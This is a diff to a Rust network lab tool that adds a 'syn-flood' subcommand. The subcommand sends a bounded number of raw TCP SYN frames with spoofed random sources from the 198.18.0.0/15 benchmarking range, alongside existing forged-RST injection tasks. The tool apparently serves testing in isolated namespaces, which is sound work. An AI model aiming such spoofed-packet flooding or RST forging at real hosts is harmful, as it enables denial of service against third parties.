@@ -6,6 +6,8 @@
 //! print one ready line once their socket is bound, one line per RST, and stop at `--count` or
 //! `--timeout`, or when killed.
 //!
+//! `syn-flood` plays the attacker of a SYN flood: SYNs from made-up sources, a bounded number.
+//!
 //! `demo` tells the seed story in fresh namespaces and removes them afterwards, also on failure
 //! or Ctrl-C.
 //!
@@ -71,6 +73,29 @@ enum Task {
         #[arg(long, value_enum, default_value_t = Strike::Data)]
         on: Strike,
     },
+    /// A SYN flood from made-up sources: COUNT SYNs to the SERVER's PORTS in turn, each from a
+    /// random address of 198.18.0.0/15 (RFC 2544's benchmarking range) and a random port, as
+    /// fast as the socket takes them, within the timeout.
+    SynFlood {
+        /// Interface to send on.
+        #[arg(long)]
+        iface: String,
+        /// The server's IPv4 address.
+        #[arg(long)]
+        server: std::net::Ipv4Addr,
+        /// The server's ports, taken in turn.
+        #[arg(long, value_delimiter = ',', required = true)]
+        ports: Vec<u16>,
+        /// MAC of the server (or of the gateway towards it).
+        #[arg(long, value_name = "MAC", value_parser = mac_arg)]
+        to_mac: [u8; 6],
+        /// How many SYNs.
+        #[arg(long, value_parser = clap::value_parser!(u32).range(1..=1_000_000))]
+        count: u32,
+        /// Stop after this long, sent or not.
+        #[arg(long, value_name = "SECONDS", default_value_t = 30)]
+        timeout: u64,
+    },
     /// Tell the seed story in fresh network namespaces (needs root and $FLAGTRACE_BIN).
     Demo,
 }
@@ -118,6 +143,19 @@ fn main() -> ExitCode {
             delay_ms,
         } => delayed_reset(&forger, port, Duration::from_millis(delay_ms)),
         Task::InjectReset { forger, server, on } => inject_reset(&forger, server, on),
+        Task::SynFlood {
+            iface,
+            server,
+            ports,
+            to_mac,
+            count,
+            timeout,
+        } => syn_flood(
+            &iface,
+            (server, &ports, to_mac),
+            count,
+            Duration::from_secs(timeout),
+        ),
         Task::Demo => return demo(),
     };
     match result {
@@ -178,6 +216,38 @@ fn inject_reset(args: &ForgerArgs, server: SocketAddr, on: Strike) -> Result<()>
             what: format!("RST+ACK to {peer} as {server} with seq {seq}"),
         })
     })
+}
+
+/// Sends `count` SYNs from random sources of 198.18.0.0/15 to `server`'s ports in turn.
+fn syn_flood(
+    iface: &str,
+    (server, ports, to_mac): (std::net::Ipv4Addr, &[u16], [u8; 6]),
+    count: u32,
+    timeout: Duration,
+) -> Result<()> {
+    use rand::{rngs::SmallRng, Rng as _, SeedableRng as _};
+    refuse_the_hosts_namespace()?;
+    let socket = PacketSocket::open(iface)?;
+    let mut rng = SmallRng::from_entropy();
+    println!("{FT_LAB_READY} on {iface}, {count} SYNs to {server}");
+    let deadline = Instant::now() + timeout;
+    let mut sent = 0;
+    for port in ports.iter().cycle().take(count as usize) {
+        if Instant::now() >= deadline {
+            break;
+        }
+        let source = [198, 18 | rng.gen_range(0..2), rng.gen(), rng.gen()];
+        let builder = etherparse::PacketBuilder::ethernet2(socket.mac(), to_mac)
+            .ipv4(source, server.octets(), 64)
+            .tcp(rng.gen_range(1024..=u16::MAX), *port, rng.gen(), 64240)
+            .syn();
+        let mut frame = Vec::with_capacity(builder.size(0));
+        builder.write(&mut frame, &[])?;
+        socket.send(&frame)?;
+        sent += 1;
+    }
+    println!("ft-lab: sent {sent} SYNs");
+    Ok(())
 }
 
 /// Sniffs `args.iface`, asks `plan` what to forge for each TCP segment that arrives, and sends
